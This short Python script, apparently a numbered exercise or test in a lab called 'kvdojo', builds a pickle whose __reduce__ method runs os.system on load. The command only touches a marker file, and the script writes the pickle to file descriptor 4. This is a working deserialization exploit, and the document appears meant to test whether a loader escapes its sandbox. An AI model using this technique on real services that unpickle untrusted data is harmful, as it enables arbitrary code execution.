"""2a-14: Sends a pickle that runs code where it is loaded."""

import os
import pickle
import struct


class Payload:
    def __reduce__(self):
        return os.system, ("touch /tmp/kvdojo-escaped",)


data = pickle.dumps(Payload())
os.write(4, struct.pack("<Q", len(data)) + data)
